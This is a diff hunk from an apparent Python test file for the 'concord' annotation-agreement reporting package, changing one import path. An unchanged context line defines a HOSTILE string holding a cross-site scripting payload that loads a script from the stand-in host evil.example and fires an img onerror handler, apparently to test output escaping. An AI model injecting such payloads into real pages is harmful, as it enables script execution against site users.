@@ -17,7 +17,7 @@ from concord.agreement.report_markdown import as_markdown
 from concord.agreement.report_sections import sections
 from concord.agreement.votes import votes_of
 from concord.agreement.words import WORDS, word
-from concord.records import Labels
+from concord.records.annotation import Labels
 
 HOSTILE = '<script src="https://evil.example/x.js"></script>"><img src=x onerror=alert(1)>'
 
